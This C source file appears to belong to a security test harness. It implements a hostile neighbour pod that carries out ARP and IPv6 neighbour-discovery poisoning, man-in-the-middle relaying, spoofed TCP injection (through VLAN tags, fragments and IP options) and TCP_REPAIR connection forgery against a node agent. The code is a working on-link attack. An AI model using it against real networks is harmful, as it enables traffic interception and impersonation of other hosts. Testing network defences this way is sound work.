// SPDX-License-Identifier: Apache-2.0
/*
 * A hostile neighbour: a pod with CAP_NET_RAW on the victim's bridge. He answers for both by ARP and
 * neighbour discovery, and sends frames in the name of either. He sees what comes to his interface, and
 * says so when he is asked.
 */
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <net/if_arp.h>
#include <netinet/icmp6.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <signal.h>
#include <sys/un.h>

#include "bypass.h"

#define POISON_MS 20
#define FENCE_MS  1000
#define ANSWER	  "HIJACK\n"
#define REQUEST	  "token\n"

static int wire_fd; /* AF_PACKET */
static uint8_t own_mac[6];
static enum neighbour_mode mode;
static struct neighbour_seen seen;
static bool fenced;
static struct ends {
	uint8_t web4[4], web6[16], node4[4], node6[16], own4[4];
} ends;

/* ---- what comes ---- */

/* Of a crowd: its pods' addresses, and where their frames come from. */
static struct victim {
	uint8_t addr[16];
	size_t size;
	uint8_t mac[6];
} crowd[64];
static int n_crowd;

static struct victim *in_crowd(const uint8_t *addr, size_t size)
{
	for (int i = 0; i < n_crowd; i++)
		if (crowd[i].size == size && !memcmp(crowd[i].addr, addr, size))
			return &crowd[i];
	return NULL;
}

static bool is_victim(const uint8_t *addr, size_t size)
{
	if (n_crowd)
		return in_crowd(addr, size);
	return !memcmp(addr, size == 4 ? ends.web4 : ends.web6, size);
}

static bool is_node(const uint8_t *addr, size_t size)
{
	return !memcmp(addr, size == 4 ? ends.node4 : ends.node6, size);
}

/* Whether these are the ends, and which way. */
static bool has_ends(const uint8_t *from, size_t size, struct segment *ret)
{
	const uint8_t *to = from + size;

	ret->v6 = size == 16;
	ret->to_agent = is_victim(from, size) && is_node(to, size);
	return ret->to_agent || (is_node(from, size) && is_victim(to, size));
}

static const uint8_t *tcp_of(const uint8_t *frame, size_t len, struct segment *ret, size_t *size)
{
	const uint8_t *ip = frame + sizeof(struct ethhdr);
	const struct iphdr *ip4 = (const struct iphdr *)ip;
	const struct ip6_hdr *ip6 = (const struct ip6_hdr *)ip;
	unsigned type = (unsigned)frame[12] << 8 | frame[13];

	if (type == ETH_P_IP && len >= 54 && ip4->protocol == IPPROTO_TCP) {
		*size = ntohs(ip4->tot_len) - ip4->ihl * 4U;
		return has_ends(ip + 12, 4, ret) ? ip + ip4->ihl * 4U : NULL;
	}
	if (type == ETH_P_IPV6 && len >= 74 && ip6->ip6_nxt == IPPROTO_TCP) {
		*size = ntohs(ip6->ip6_plen);
		return has_ends(ip + 8, 16, ret) ? ip + sizeof(*ip6) : NULL;
	}
	return NULL;
}

static void know_ends(void)
{
	inet_pton(AF_INET, setting("BYPASS_OWN_IP"), ends.web4);
	inet_pton(AF_INET6, setting("BYPASS_OWN_IP6"), ends.web6);
	inet_pton(AF_INET, setting("BYPASS_OTHER_IP"), ends.own4);
	inet_pton(AF_INET, NODE4, ends.node4);
	inet_pton(AF_INET6, NODE6, ends.node6);
}

bool is_of_victim(const uint8_t *frame, size_t len, struct segment *ret)
{
	const struct tcphdr *tcp;
	size_t size = 0;

	if (!ends.node4[0])
		know_ends();
	tcp = (const struct tcphdr *)tcp_of(frame, len, ret, &size);
	if (!tcp || ntohs(ret->to_agent ? tcp->dest : tcp->source) != AGENT_PORT)
		return false;
	if (size < tcp->doff * 4U || (const uint8_t *)tcp + size > frame + len)
		return false;
	ret->port = ntohs(ret->to_agent ? tcp->source : tcp->dest);
	ret->syn = tcp->syn;
	ret->rst = tcp->rst;
	ret->ack_set = tcp->ack;
	ret->seq = ntohl(tcp->seq);
	ret->ack = ntohl(tcp->ack_seq);
	ret->payload = (const uint8_t *)tcp + tcp->doff * 4U;
	ret->len = size - tcp->doff * 4U;
	ret->next = ret->seq + (uint32_t)ret->len + tcp->syn + tcp->fin;
	return true;
}

/* ---- what goes ---- */

/* LEN bytes of TCP, behind the addresses at ADDRS. */
static void tcp_check(const uint8_t *addrs, size_t addrs_len, uint8_t *segment, size_t len)
{
	struct tcphdr *tcp = (struct tcphdr *)segment;
	uint32_t sum = IPPROTO_TCP + (uint32_t)len;

	sum += (uint16_t)~ntohs(checksum(addrs, addrs_len, 0));
	tcp->check = 0;
	tcp->check = checksum(segment, len, sum);
}

static void ether(struct packet *p, const void *to, const void *from, int type)
{
	put(p, to, 6);
	put(p, from, 6);
	put_bytes(p, 2, type >> 8, type & 0xff);
}

static void send_frame(const void *frame, size_t len)
{
	if (send(wire_fd, frame, len, 0) < 0)
		perror("neighbour: send");
}

static void arp(const void *to, const uint8_t *sender, const uint8_t *target)
{
	struct packet p = {0};

	ether(&p, to, own_mac, ETH_P_ARP);
	put_bytes(&p, 8, 0, ARPHRD_ETHER, ETH_P_IP >> 8, 0, 6, 4, 0, ARPOP_REQUEST);
	put(&p, own_mac, 6);
	put(&p, sender, 4);
	put_bytes(&p, 6, 0, 0, 0, 0, 0, 0);
	put(&p, target, 4);
	send_frame(p.data, p.len);
}

/* "That address is mine", to one who has an entry for it. Said by an address that is nobody's: what comes
 * out of a pod in the agent's name is dropped. */
static void advertise(const void *to, const uint8_t *to_address, const uint8_t *address)
{
	static const uint8_t own_address[16] = {0xfe, 0x80, [14] = 0x95, 1};
	struct nd_neighbor_advert *na;
	uint32_t sum = IPPROTO_ICMPV6 + 32;
	struct packet p = {0};

	ether(&p, to, own_mac, ETH_P_IPV6);
	put_bytes(&p, 8, 0x60, 0, 0, 0, 0, 32, IPPROTO_ICMPV6, 255);
	put(&p, own_address, 16);
	put(&p, to_address, 16);
	na = (struct nd_neighbor_advert *)(p.data + p.len);
	put_bytes(&p, 8, ND_NEIGHBOR_ADVERT, 0, 0, 0, 0xa0, 0, 0, 0); /* router, override */
	put(&p, address, 16);
	put_bytes(&p, 2, ND_OPT_TARGET_LINKADDR, 1);
	put(&p, own_mac, 6);
	sum += (uint16_t)~ntohs(checksum(p.data + 22, 32, 0));
	na->nd_na_hdr.icmp6_cksum = checksum(na, 32, sum);
	send_frame(p.data, p.len);
}

/* To all at once: nobody believes it of his own address. */
static void poison_crowd(void)
{
	static const uint8_t all[] = {255, 255, 255, 255, 255, 255},
			     all6[] = {0x33, 0x33, 0, 0, 0, 1};
	static const uint8_t nodes[16] = {255, 2, [15] = 1}; /* ff02::1 */

	arp(all, ends.node4, ends.node4);
	advertise(all6, nodes, ends.node6);
	for (int i = 0; i < n_crowd; i++)
		if (crowd[i].size == 4)
			arp(all, crowd[i].addr, crowd[i].addr);
		else
			advertise(all6, nodes, crowd[i].addr);
}

static void poison(void)
{
	if (n_crowd) {
		poison_crowd();
		return;
	}
	arp(WEB_MAC, ends.node4, ends.node4);
	arp(NODE_MAC, ends.web4, ends.web4);
	advertise(WEB_MAC, ends.web6, ends.node6);
	advertise(NODE_MAC, ends.node6, ends.web6);
}

static void poison_now_and_then(void)
{
	static int64_t last;
	int64_t now = now_ms();

	if (now - last < POISON_MS)
		return;
	last = now;
	poison();
}

struct flags {
	bool syn, ack, rst, long_header;
};

static void put_tcp(struct packet *p, const struct spoof *spoof, struct flags flags,
		    const char *payload)
{
	uint16_t agent = htons(AGENT_PORT), port = htons(spoof->port);
	struct tcphdr tcp = {.doff = 5, .window = htons(60000)};
	size_t start = p->len;
	uint8_t addrs[32];
	size_t size = spoof->v6 ? 16 : 4;

	tcp.source = spoof->as_agent ? agent : port;
	tcp.dest = spoof->as_agent ? port : agent;
	tcp.seq = htonl(spoof->seq);
	tcp.ack_seq = flags.ack ? htonl(spoof->ack) : 0;
	tcp.syn = flags.syn;
	tcp.ack = flags.ack;
	tcp.rst = flags.rst;
	tcp.psh = *payload != '\0';
	tcp.doff = flags.long_header ? 7 : 5;
	put(p, &tcp, sizeof(tcp));
	if (flags.long_header)
		put_bytes(p, 8, 1, 1, 1, 1, 1, 1, 1, 0);
	put(p, payload, strlen(payload));
	memcpy(addrs + (spoof->as_agent ? size : 0), spoof->v6 ? ends.web6 : ends.web4, size);
	memcpy(addrs + (spoof->as_agent ? 0 : size), spoof->v6 ? ends.node6 : ends.node4, size);
	tcp_check(addrs, 2 * size, p->data + start, p->len - start);
}

static size_t put_ip(struct packet *p, const struct spoof *spoof, int next, uint16_t fragment)
{
	static const uint8_t nops[8] = {1, 1, 1, 1, 1, 1, 1, 0};
	size_t start = p->len, options = spoof->carrier == OPTIONS ? sizeof(nops) : 0;

	if (spoof->v6) {
		put_ip6(p, NODE6, next);
		memcpy(p->data + start + 8, spoof->as_agent ? ends.node6 : ends.web6, 16);
		memcpy(p->data + start + 24, spoof->as_agent ? ends.web6 : ends.node6, 16);
		return start;
	}
	put_ip4(p, NODE4, next, nops, options);
	if (fragment)
		memcpy(p->data + start + 4, &spoof->port, 2); /* one id for all of them */
	memcpy(p->data + start + 12, spoof->as_agent ? ends.node4 : ends.web4, 4);
	memcpy(p->data + start + 16, spoof->as_agent ? ends.web4 : ends.node4, 4);
	return start;
}

static void put_link(struct packet *p, const struct spoof *spoof)
{
	int type = spoof->v6 ? ETH_P_IPV6 : ETH_P_IP;
	const char *to = spoof->as_agent ? WEB_MAC : NODE_MAC;

	if (spoof->carrier == THROUGH_POD)
		to = RELAY_MAC;
	if (spoof->carrier != TAG_8021Q && spoof->carrier != TAG_8021AD) {
		ether(p, to, own_mac, type);
		return;
	}
	/* the id 0 carries a priority only: a receiver takes the tag off */
	ether(p, to, own_mac, spoof->carrier == TAG_8021Q ? ETH_P_8021Q : ETH_P_8021AD);
	put_bytes(p, 4, 0xe0, 0, type >> 8, type & 0xff);
}

#define MORE 0x2000

static void send_part(const struct spoof *spoof, const struct packet *tcp, size_t from, size_t to)
{
	bool more = to < tcp->len;
	struct packet p = {0};
	size_t start;

	put_link(&p, spoof);
	if (spoof->v6) {
		uint8_t header[8] = {IPPROTO_TCP,
				     0,
				     0,
				     (uint8_t)(from | more),
				     0,
				     0,
				     (uint8_t)(spoof->port >> 8),
				     (uint8_t)spoof->port};

		start = put_ip(&p, spoof, IPPROTO_FRAGMENT, 0);
		put(&p, header, sizeof(header));
		put(&p, tcp->data + from, to - from);
		end_ip6(&p, start);
	} else {
		start = put_ip(&p, spoof, IPPROTO_TCP, 1);
		put(&p, tcp->data + from, to - from);
		end_ip4(&p, start, (uint16_t)(from / 8 | (more ? MORE : 0)));
	}
	send_frame(p.data, p.len);
}

/* IPv6 takes no first fragment without the whole TCP header, IPv4 one that has the ports alone. */
static void send_fragments(const struct spoof *spoof, const struct packet *tcp)
{
	size_t cut = spoof->v6 ? 24 : 8;

	send_part(spoof, tcp, 0, cut);
	send_part(spoof, tcp, cut, tcp->len);
}

static void send_whole(const struct spoof *spoof, const struct packet *tcp)
{
	static const uint8_t padding[8] = {IPPROTO_TCP, 0, 1, 4};
	bool extended = spoof->v6 && (spoof->carrier == OPTIONS || spoof->carrier == HOP_BY_HOP);
	int next = IPPROTO_TCP;
	struct packet p = {0};
	size_t start;

	if (extended)
		next = spoof->carrier == OPTIONS ? IPPROTO_DSTOPTS : IPPROTO_HOPOPTS;
	put_link(&p, spoof);
	start = put_ip(&p, spoof, next, 0);
	if (extended)
		put(&p, padding, sizeof(padding));
	put(&p, tcp->data, tcp->len);
	if (spoof->v6)
		end_ip6(&p, start);
	else
		end_ip4(&p, start, 0);
	send_frame(p.data, p.len);
}

static void send_segment(const struct spoof *spoof, struct flags flags, const char *payload)
{
	struct packet tcp = {0};

	flags.long_header = spoof->carrier == FRAGMENTS;
	put_tcp(&tcp, spoof, flags, payload);
	if (spoof->carrier == FRAGMENTS)
		send_fragments(spoof, &tcp);
	else
		send_whole(spoof, &tcp);
}

/* ---- a socket in the victim's place ---- */

static int from_victims_address(const struct spoof *spoof)
{
	int fd = socket(spoof->v6 ? AF_INET6 : AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	struct sockaddr_storage from;
	socklen_t len = address(&from, setting(spoof->v6 ? "BYPASS_OWN_IP6" : "BYPASS_OWN_IP"),
				spoof->port, false);
	int r = spoof->v6 ? set_int(fd, IPPROTO_IPV6, IPV6_TRANSPARENT, 1)
			  : set_int(fd, IPPROTO_IP, IP_TRANSPARENT, 1);

	if (r < 0 || bind(fd, (struct sockaddr *)&from, len) < 0)
		perror("neighbour: the victim's address");
	return fd;
}

static int set_queue(int fd, int queue, uint32_t seq)
{
	int r = set_int(fd, IPPROTO_TCP, TCP_REPAIR_QUEUE, queue);

	return r < 0 ? r : set_int(fd, IPPROTO_TCP, TCP_QUEUE_SEQ, (int)seq);
}

static int repair(int fd, const struct spoof *spoof)
{
	const struct tcp_repair_window window = {.snd_wl1 = spoof->ack,
						 .snd_wnd = UINT16_MAX,
						 .max_window = UINT16_MAX,
						 .rcv_wnd = UINT16_MAX,
						 .rcv_wup = spoof->ack};
	int r = set_int(fd, IPPROTO_TCP, TCP_REPAIR, TCP_REPAIR_ON);

	if (r == 0)
		r = set_queue(fd, TCP_SEND_QUEUE, spoof->seq);
	if (r == 0)
		r = set_queue(fd, TCP_RECV_QUEUE, spoof->ack);
	if (r == 0)
		r = dial(fd, spoof->v6 ? NODE6 : NODE4, AGENT_PORT, false);
	if (r == 0 && setsockopt(fd, IPPROTO_TCP, TCP_REPAIR_WINDOW, &window, sizeof(window)) < 0)
		r = -errno;
	return r < 0 ? r : set_int(fd, IPPROTO_TCP, TCP_REPAIR, TCP_REPAIR_OFF_NO_WP);
}

/* Whatever it was cut off by. */
static int join_again(int fd)
{
	int r = setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, "eth0", sizeof("eth0"));

	if (r == 0)
		r = set_int(fd, SOL_SOCKET, SO_MARK, 0);
	if (r == 0)
		r = set_int(fd, SOL_SOCKET, SO_KEEPALIVE, 0);
	return r < 0 ? r : set_int(fd, IPPROTO_TCP, TCP_USER_TIMEOUT, 0);
}

static void send_repaired(const struct spoof *spoof)
{
	static const struct linger none = {.l_onoff = 1};
	int fd = from_victims_address(spoof);

	if (repair(fd, spoof) < 0 || join_again(fd) < 0)
		perror("neighbour: TCP_REPAIR");
	if (spoof->kind == SPOOF_REPAIR_RST)
		setsockopt(fd, SOL_SOCKET, SO_LINGER, &none, sizeof(none));
	else if (spoof->kind == SPOOF_REPAIR_FIN)
		shutdown(fd, SHUT_WR);
	else if (send(fd, ANSWER, strlen(ANSWER), MSG_NOSIGNAL | MSG_DONTWAIT) < 0)
		perror("neighbour: TCP_REPAIR, send");
	if (spoof->kind != SPOOF_REPAIR_RST) /* it ends without a word */
		set_int(fd, IPPROTO_TCP, TCP_REPAIR, TCP_REPAIR_ON);
	close(fd);
}

static void send_spoofed(struct spoof spoof)
{
	switch (spoof.kind) {
	case SPOOF_SYN:
		send_segment(&spoof, (struct flags){.syn = true}, "");
		break;
	case SPOOF_RST:
		send_segment(&spoof, (struct flags){.rst = true, .ack = true}, "");
		break;
	case SPOOF_DATA:
		send_segment(&spoof, (struct flags){.ack = true}, ANSWER);
		break;
	case SPOOF_SYNACK:
		send_segment(&spoof, (struct flags){.syn = true, .ack = true}, ANSWER);
		spoof.seq++;
		send_segment(&spoof, (struct flags){.ack = true}, ANSWER);
		break;
	case SPOOF_REPAIR_DATA:
	case SPOOF_REPAIR_FIN:
	case SPOOF_REPAIR_RST:
		send_repaired(&spoof);
		break;
	case SPOOF_NONE:
		break;
	}
}

/* ---- in the middle ---- */

/* The other end's link layer address. Of a crowd it is known from what has come. */
static const void *way_of(const uint8_t *frame, const struct segment *s)
{
	const uint8_t *from = frame + (s->v6 ? 22 : 26);
	size_t size = s->v6 ? 16 : 4;
	struct victim *victim;

	if (!n_crowd)
		return s->to_agent ? NODE_MAC : WEB_MAC;
	victim = in_crowd(s->to_agent ? from : from + size, size);
	if (s->to_agent)
		memcpy(victim->mac, frame + 6, 6);
	return s->to_agent ? (const void *)NODE_MAC : victim->mac;
}

/* Checksums of local senders are not made yet on a veth. */
static void hand_on(uint8_t *frame, const struct segment *s)
{
	size_t addrs = s->v6 ? 22 : 26;
	uint8_t *ip = frame + sizeof(struct ethhdr);
	uint8_t *tcp = s->v6 ? ip + 40 : ip + (ip[0] & 15) * 4;
	size_t size = (size_t)(s->payload + s->len - tcp);

	memcpy(frame, way_of(frame, s), 6);
	memcpy(frame + 6, own_mac, 6);
	tcp_check(frame + addrs, s->v6 ? 32 : 8, tcp, size);
	send_frame(frame, (size_t)(s->payload + s->len - frame));
}

/* In the sender's place, to the one who sent S. */
static void reply(const struct segment *s, const char *payload)
{
	struct spoof spoof = {.as_agent = s->to_agent, .v6 = s->v6, .port = s->port};

	spoof.seq = s->ack;
	spoof.ack = s->next;
	send_segment(&spoof, (struct flags){.ack = true}, payload);
}

static void complete(uint8_t *frame, const struct segment *s)
{
	static uint16_t port_done;

	if (s->to_agent) {
		if (s->syn && s->port != port_done)
			hand_on(frame, s);
		return;
	}
	if (s->syn) {
		port_done = s->port;
		reply(s, REQUEST);
	} else if (s->len) {
		seen.taken |= memmem(s->payload, s->len, "pod=web ", 8) != NULL;
		reply(s, "");
	}
}

static void answer(uint8_t *frame, const struct segment *s)
{
	if (s->syn)
		hand_on(frame, s);
	else if (s->to_agent && !s->rst)
		reply(s, ANSWER);
}

static void meddle(uint8_t *frame, const struct segment *s)
{
	if (memcmp(frame, own_mac, 6) != 0) /* flooded */
		return;
	if (mode == NEIGHBOUR_RELAY)
		hand_on(frame, s);
	else if (mode == NEIGHBOUR_COMPLETE)
		complete(frame, s);
	else if (mode == NEIGHBOUR_ANSWER)
		answer(frame, s);
}

static void take_frame(uint8_t *frame, size_t len)
{
	unsigned type = (unsigned)frame[12] << 8 | frame[13];
	struct segment s;

	if (len < sizeof(struct ethhdr))
		return;
	if (type == ETH_P_ARP && len >= 42 && frame[21] == ARPOP_REPLY)
		fenced = true;
	else if (type == ETH_P_ARP && mode != NEIGHBOUR_QUIET && !n_crowd)
		poison();
	if (!is_of_victim(frame, len, &s))
		return;
	seen.frames++;
	*(s.to_agent ? &seen.asked : &seen.answered) += s.len;
	meddle(frame, &s);
}

static void take_frames(void)
{
	static uint8_t frame[1 << 17];
	struct sockaddr_ll from;
	socklen_t from_len = sizeof(from);
	ssize_t n;

	while ((n = recvfrom(wire_fd, frame, sizeof(frame), MSG_DONTWAIT, (struct sockaddr *)&from,
			     &from_len)) > 0)
		if (from.sll_pkttype != PACKET_OUTGOING)
			take_frame(frame, (size_t)n);
}

/* An answer to what was sent behind the frames: they have got where they go. Twice, as a pod in between is
 * one more queue. */
static void fence(const struct spoof *spoof)
{
	const char *to = spoof->as_agent ? WEB_MAC : NODE_MAC;
	struct pollfd p = {.fd = wire_fd, .events = POLLIN};

	for (int i = 0; i < 2; i++) {
		fenced = false;
		arp(to, ends.own4, spoof->as_agent ? ends.web4 : ends.node4);
		while (!fenced && poll(&p, 1, FENCE_MS * wait_factor()) > 0)
			take_frames();
	}
}

/* The bridge is to learn the victim's address at this port, as it knows the own one. */
static void steal(void)
{
	const void *const all[] = {own_mac, WEB_MAC};

	for (int i = 0; i < 2; i++) {
		struct packet p = {0};

		ether(&p, NODE_MAC, all[i], 0x88b5); /* for experiments: nobody takes it */
		put_bytes(&p, 4, 1, 2, 3, 4);
		send_frame(p.data, p.len);
	}
}

/* ---- orders ---- */

static void obey(const struct neighbour_order *order)
{
	switch (order->what) {
	case ORDER_MODE:
		mode = order->mode;
		if (mode != NEIGHBOUR_QUIET)
			poison();
		break;
	case ORDER_RESET: /* also of what a row that broke has left */
		mode = NEIGHBOUR_QUIET;
		seen = (struct neighbour_seen){0};
		break;
	case ORDER_SPOOF:
		send_spoofed(order->spoof);
		fence(&order->spoof);
		break;
	case ORDER_STEAL:
		steal();
		break;
	case ORDER_SEEN:
		break;
	}
}

static void take_order(int listener)
{
	int fd = accept4(listener, NULL, NULL, SOCK_CLOEXEC);
	struct neighbour_order order;

	if (fd < 0)
		return;
	if (recv(fd, &order, sizeof(order), MSG_WAITALL) == sizeof(order)) {
		take_frames();
		obey(&order);
		take_frames();
		send(fd, &seen, sizeof(seen), MSG_NOSIGNAL);
	}
	close(fd);
}

static struct sockaddr_un place_of_orders(void)
{
	struct sockaddr_un un = {.sun_family = AF_UNIX};

	snprintf(un.sun_path, sizeof(un.sun_path), "%s", setting("BYPASS_NEIGHBOUR"));
	return un;
}

struct neighbour_seen neighbour(const struct neighbour_order *order)
{
	struct sockaddr_un un = place_of_orders();
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	struct neighbour_seen told;

	if (connect(fd, (struct sockaddr *)&un, sizeof(un)) < 0 ||
	    send(fd, order, sizeof(*order), MSG_NOSIGNAL) != sizeof(*order) ||
	    recv(fd, &told, sizeof(told), MSG_WAITALL) != sizeof(told)) {
		fprintf(stderr, "BROKEN %s: %s\n", un.sun_path, strerror(errno));
		exit(2);
	}
	close(fd);
	return told;
}

uint64_t neighbour_frames_by_now(void)
{
	static const struct neighbour_order order = {.what = ORDER_SEEN};

	return neighbour(&order).frames;
}

static int open_wire(void)
{
	struct sockaddr_ll at = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL)};
	int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL));
	socklen_t len = sizeof(at);

	at.sll_ifindex = (int)if_nametoindex("eth0");
	set_int(fd, SOL_SOCKET, SO_RCVBUFFORCE, 1 << 24);
	if (bind(fd, (struct sockaddr *)&at, sizeof(at)) < 0 ||
	    getsockname(fd, (struct sockaddr *)&at, &len) < 0) {
		perror("neighbour: eth0");
		exit(1);
	}
	memcpy(own_mac, at.sll_addr, 6);
	return fd;
}

int neighbour_serve(void)
{
	struct sockaddr_un un = place_of_orders();
	struct pollfd p[2] = {{.events = POLLIN}, {.events = POLLIN}};

	know_ends();
	wire_fd = p[0].fd = open_wire();
	p[1].fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	unlink(un.sun_path);
	if (bind(p[1].fd, (struct sockaddr *)&un, sizeof(un)) < 0 || listen(p[1].fd, 64) < 0) {
		perror(un.sun_path);
		return 1;
	}
	printf("ready\n");
	fflush(stdout);
	for (;;) {
		int n = poll(p, 2, mode == NEIGHBOUR_QUIET ? -1 : POISON_MS);

		if (mode != NEIGHBOUR_QUIET)
			poison_now_and_then();
		if (p[0].revents)
			take_frames();
		if (n > 0 && p[1].revents)
			take_order(p[1].fd);
	}
}

static volatile sig_atomic_t ended;

static void on_term(int sig)
{
	ended = sig;
}

static void read_crowd(const char *path)
{
	FILE *f = fopen(path, "re");
	char host[INET6_ADDRSTRLEN];

	if (!f) {
		perror(path);
		exit(1);
	}
	while (n_crowd < 64 && fscanf(f, "%45s", host) == 1) {
		struct victim *v = &crowd[n_crowd++];

		v->size = strchr(host, ':') ? 16 : 4;
		inet_pton(v->size == 4 ? AF_INET : AF_INET6, host, v->addr);
	}
	fclose(f);
}

int neighbour_crowd(const char *path)
{
	struct pollfd p = {.events = POLLIN};

	inet_pton(AF_INET, NODE4, ends.node4);
	inet_pton(AF_INET6, NODE6, ends.node6);
	read_crowd(path);
	signal(SIGTERM, on_term);
	p.fd = wire_fd = open_wire();
	mode = NEIGHBOUR_RELAY;
	printf("ready\n");
	fflush(stdout);
	while (!ended) {
		poll(&p, 1, POISON_MS);
		poison_now_and_then();
		take_frames();
	}
	printf("frames=%lu asked=%lu answered=%lu\n", seen.frames, seen.asked, seen.answered);
	return 0;
}
